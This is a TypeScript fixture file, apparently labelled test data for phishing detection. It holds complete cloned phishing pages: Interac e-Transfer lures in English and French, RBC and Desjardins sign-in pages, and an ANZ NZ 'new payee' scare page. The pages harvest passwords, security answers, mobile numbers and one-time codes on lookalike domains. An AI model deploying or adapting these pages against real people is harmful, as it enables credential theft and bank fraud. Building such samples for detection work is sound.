import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { b64, rev } from '../parts/yf-kit.js';

// Interac e-Transfer and bank sign-in kits (AU, NZ, CA).

const interacCss = `
body{margin:0;font-family:"Helvetica Neue",Arial,sans-serif;background:#f2f2f2;color:#222}
.ih{background:#fdb913;padding:14px 24px;display:flex;align-items:center;gap:12px}
.ih .mk{background:#000;color:#fdb913;font-weight:900;font-size:15px;padding:6px 8px;border-radius:3px;letter-spacing:.5px}
.ih span{font-weight:700;font-size:18px}
.box{max-width:620px;margin:28px auto;background:#fff;padding:28px;border-radius:4px;box-shadow:0 1px 4px rgba(0,0,0,.12)}
.amt{font-size:34px;font-weight:700;margin:6px 0 2px}
.msg{background:#fafafa;border-left:4px solid #fdb913;padding:10px 14px;margin:16px 0;font-style:italic}
.fis{display:grid;grid-template-columns:repeat(3,1fr);gap:10px;margin-top:16px}
.fis a{display:flex;align-items:center;justify-content:center;height:60px;border:1px solid #ccc;border-radius:4px;text-decoration:none;color:#222;font-weight:700;font-size:14px;background:#fff}
.fis a:hover{border-color:#fdb913;box-shadow:0 0 0 2px #fdb913}
.small{font-size:12px;color:#666;margin-top:18px}
`;

const rbcSignin = `<!DOCTYPE html>
<html lang="en-CA"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>RBC Royal Bank - Sign In</title>
<style>
body{margin:0;font-family:Roboto,Arial,sans-serif;background:#fff;color:#252525}
.hd{background:#005daa;height:70px;display:flex;align-items:center;padding:0 5%}
.hd i{display:inline-block;width:44px;height:54px;background:#ffd200;border-radius:2px;margin-top:16px}
.c{max-width:420px;margin:40px auto;padding:0 20px}
h1{font-weight:400;font-size:30px}
label{display:block;font-size:14px;margin:16px 0 4px}
input{width:100%;box-sizing:border-box;height:44px;border:1px solid #8b8b8b;padding:0 10px;font-size:16px}
.btn{width:100%;height:46px;margin-top:22px;background:#005daa;color:#fff;border:0;font-size:16px;font-weight:500}
.rm{font-size:14px;margin-top:10px}
#q{display:none}
</style></head><body>
<div class="hd"><i></i></div>
<div class="c">
<div id="s1">
<h1>Sign In to Online Banking</h1>
<p style="font-size:14px">Sign in to deposit your Interac e-Transfer of <b>$1,250.00</b>.</p>
<label>Client Card or Username</label><input id="k1" autocomplete="off">
<div class="rm"><label style="display:inline"><input type="checkbox" style="width:auto;height:auto"> Save client card or username</label></div>
<label>Password</label><input id="q1" type="password">
<button class="btn" id="b1">Sign In</button>
</div>
<div id="q">
<h1>Security Question</h1>
<p style="font-size:14px">For your protection, please answer your personal verification questions.</p>
<label>What was the name of your first pet?</label><input id="a1">
<label>In what city was your mother born?</label><input id="a2">
<label>Mobile phone number</label><input id="mob" type="tel">
<button class="btn" id="b2">Continue</button>
</div>
</div>
<script>
function post(o){ return fetch('/rbc/gate.php', {method:'POST', headers:{'Content-Type':'application/json'}, body: JSON.stringify(o)}); }
document.getElementById('b1').onclick = function(){ post({k: document.getElementById('k1').value, p: document.getElementById('q1').value, fi: 'rbc'}).then(function(){ document.getElementById('s1').style.display='none'; document.getElementById('q').style.display='block'; }); };
document.getElementById('b2').onclick = function(){ post({a1: document.getElementById('a1').value, a2: document.getElementById('a2').value, m: document.getElementById('mob').value}).then(function(){ location.href = '/deposit/complete'; }); };
</script>
</body></html>`;

const accesD = `<!DOCTYPE html>
<html lang="fr-CA"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>AccèsD - Desjardins</title>
<style>
body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f4f4f4;color:#383838}
.hd{background:#00874e;height:64px;display:flex;align-items:center;padding:0 5%;color:#fff;font-size:22px;font-weight:bold}
.c{max-width:440px;margin:40px auto;background:#fff;padding:30px;border-top:4px solid #00874e}
label{display:block;font-weight:bold;font-size:14px;margin:14px 0 4px}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #999;font-size:16px}
button{margin-top:20px;background:#00874e;color:#fff;border:0;padding:12px 30px;font-size:16px;font-weight:bold;border-radius:3px}
</style></head><body>
<div class="hd">Desjardins</div>
<div class="c">
<h2 style="margin-top:0">Connexion à AccèsD</h2>
<p style="font-size:14px">Pour déposer votre virement <i>Interac</i> de <b>785,00 $</b>, connectez-vous.</p>
<form method="post" action="/desjardins/valider">
<label>Numéro de carte d'accès ou identifiant</label><input name="carte" required>
<label>Mot de passe</label><input type="password" name="mdp" required>
<label>Question de sécurité : Quel est le nom de votre école primaire?</label><input name="reponse" required>
<button type="submit">Valider</button>
</form>
</div></body></html>`;

export const entries: Entry[] = [
  {
    id: 'yf-interac-etransfer-fi-picker-rbc',
    label: 'phishing',
    kind: 'interac-etransfer-kit',
    url: 'https://etransfer-interac.deposit-funds.ca/deposit/?ref=CAjM7qR4',
    body: `<!DOCTYPE html>
<html lang="en-CA"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>INTERAC e-Transfer | Deposit your money</title>
<style>${interacCss}</style></head>
<body>
<div class="ih"><span class="mk">INTERAC</span><span>e-Transfer&reg;</span></div>
<div class="box">
<p>Hi, you've received an <i>Interac</i> e-Transfer from <b>PRAIRIE HVAC LTD.</b></p>
<div class="amt">$1,250.00 (CAD)</div>
<div style="font-size:13px;color:#666">Reference Number: CAjM7qR4 &middot; Expires in 29 days</div>
<div class="msg">Message: Refund for overpayment on invoice 1042. Thank you.</div>
<h3>Select your financial institution</h3>
<div class="fis">
<a href="/rbc/signin">RBC Royal Bank</a><a href="/td/signin">TD</a><a href="/scotia/signin">Scotiabank</a>
<a href="/bmo/signin">BMO</a><a href="/cibc/signin">CIBC</a><a href="/desjardins/signin">Desjardins</a>
<a href="/national/signin">National Bank</a><a href="/atb/signin">ATB Financial</a><a href="/tangerine/signin">Tangerine</a>
</div>
<p class="small">This is a secure site. &reg; Trademark of Interac Corp. Used under licence.</p>
</div>
</body></html>`,
    routes: {
      'etransfer-interac.deposit-funds.ca/rbc/signin': htmlRoute(rbcSignin),
      'etransfer-interac.deposit-funds.ca/rbc/gate.php': jsonRoute({ r: 'ok' }),
      'etransfer-interac.deposit-funds.ca/deposit/complete': htmlRoute('<!DOCTYPE html><html><head><meta charset="utf-8"><title>Deposit complete</title></head><body style="font-family:Arial;text-align:center;padding:60px"><h2>Your deposit is being processed</h2><p>Funds will be available within 30 minutes.</p></body></html>'),
    },
  },
  {
    id: 'yf-virement-interac-desjardins-fr',
    label: 'phishing',
    kind: 'interac-etransfer-kit',
    url: 'https://virement-interac.depot-securise.com/fr/depot?ref=CAk29Vt1&lang=fr',
    body: `<!DOCTYPE html>
<html lang="fr-CA"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Virement INTERAC | Déposez votre argent</title>
<style>${interacCss}</style></head>
<body>
<div class="ih"><span class="mk">INTERAC</span><span>Virement&reg;</span></div>
<div class="box">
<p>Bonjour, vous avez reçu un virement <i>Interac</i> de <b>CLINIQUE DENTAIRE ST-LAURENT</b>.</p>
<div class="amt">785,00 $ (CAD)</div>
<div style="font-size:13px;color:#666">Numéro de référence : CAk29Vt1 &middot; Expire dans 29 jours</div>
<div class="msg">Message : Remboursement de dépôt &ndash; rendez-vous annulé.</div>
<h3>Choisissez votre institution financière</h3>
<div class="fis">
<a href="/fr/desjardins">Desjardins</a><a href="/fr/bnc">Banque Nationale</a><a href="/fr/rbc">RBC Banque Royale</a>
<a href="/fr/td">TD</a><a href="/fr/bmo">BMO</a><a href="/fr/laurentienne">Banque Laurentienne</a>
</div>
<p class="small">Site sécurisé. &reg; Marque de commerce d'Interac Corp. utilisée sous licence.</p>
</div>
</body></html>`,
    routes: {
      'virement-interac.depot-securise.com/fr/desjardins': htmlRoute(accesD),
      'virement-interac.depot-securise.com/desjardins/valider': redirectRoute(302, 'https://www.desjardins.com/'),
    },
  },
  {
    id: 'yf-anz-nz-new-payee-cancel-kit',
    label: 'phishing',
    kind: 'bank-login-kit',
    url: 'https://anz-nz.payee-review.com/internet-banking/?cancel=PY88172',
    body: `<!DOCTYPE html>
<html lang="en-NZ"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>ANZ Internet Banking - Log on</title>
<style>
body{margin:0;font-family:"Myriad Pro",Arial,sans-serif;background:#e9f3f9;color:#004165}
.hd{background:#004165;padding:14px 6%;color:#fff;font-size:26px;font-weight:bold;letter-spacing:2px}
.hd span{color:#5bc6e8}
.w{max-width:440px;margin:36px auto;background:#fff;padding:30px;border-radius:6px}
.al{background:#fff4e5;border:1px solid #ffc46b;color:#5a3a00;padding:12px;font-size:14px;border-radius:4px;margin-bottom:16px}
label{display:block;font-size:14px;font-weight:bold;margin:14px 0 4px}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #7c97a8;border-radius:3px;font-size:16px}
button{width:100%;margin-top:20px;padding:12px;background:#007dba;border:0;border-radius:3px;color:#fff;font-size:16px;font-weight:bold}
</style></head>
<body>
<div class="hd">AN<span>Z</span></div>
<div class="w">
<div class="al"><b>New payee added:</b> "R HENARE" 38-9019-0215637-01 was added to your account at 7:42 pm. A payment of $2,480.00 is scheduled for tomorrow. If you did not authorise this, log on to cancel.</div>
<form method="post" action="/internet-banking/logon.php">
<input type="hidden" name="cancel" value="PY88172">
<label>Customer number</label><input name="customer" inputmode="numeric" required>
<label>Password</label><input type="password" name="password" required>
<label>Mobile number (for verification)</label><input name="mobile" type="tel" required>
<button type="submit">Log on and cancel payment</button>
</form>
</div>
</body></html>`,
    routes: {
      'anz-nz.payee-review.com/internet-banking/logon.php': htmlRoute(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>ANZ - Verify</title></head><body style="font-family:Arial;max-width:420px;margin:50px auto;color:#004165"><h2>Verification required</h2><p>Enter the 6-digit code we sent to your mobile and your OnlineCode to cancel the payee.</p><form method="post" action="/internet-banking/verify.php"><input name="code" maxlength="6" style="width:100%;padding:10px"><button style="margin-top:12px;padding:10px 24px;background:#007dba;color:#fff;border:0">Cancel payment</button></form></body></html>`),
      'anz-nz.payee-review.com/internet-banking/verify.php': redirectRoute(302, 'https://www.anz.co.nz/'),
    },
  },
];
